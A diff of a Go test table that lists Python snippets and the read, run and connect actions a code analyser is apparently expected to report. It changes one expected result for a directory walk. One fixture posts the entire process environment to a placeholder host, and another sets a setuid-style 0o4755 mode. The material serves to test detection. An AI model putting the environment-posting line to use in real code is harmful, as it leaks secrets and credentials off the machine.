@@ -15,7 +15,7 @@ var pythonFiles = []readCase{
 	{"chmod of a path that gives its owner's rights", `from pathlib import Path; Path('a').chmod(0o4755)`, "changes pathlib.Path().chmod \"a\"\nruns pathlib.Path().chmod \"chmod\" \"4755\" \"a\""},
 	{"walk", `import os
 for root, dirs, files in os.walk('/k'):
-    for f in files: open(os.path.join(root, f))`, "reads open /k/…\nreads open …"},
+    for f in files: open(os.path.join(root, f))`, "reads open /k/?\nreads open /k/?/?"},
 	{"the environment as a whole", `import os, json, requests; requests.post('http://h', data=json.dumps(dict(os.environ)).encode())`, "connects requests.post \"http://h\"\nruns requests.post \"env\""},
 	{"the environment for a command", `import os, subprocess; subprocess.run(['ls'], env=dict(os.environ)); print(os.environ['X'], len(os.environ))`, "runs subprocess.run \"ls\""},
 	{"settings that are read", `import configparser; c = configparser.ConfigParser(); c.read('s.ini')`, `reads configparser.ConfigParser().read "s.ini"`},
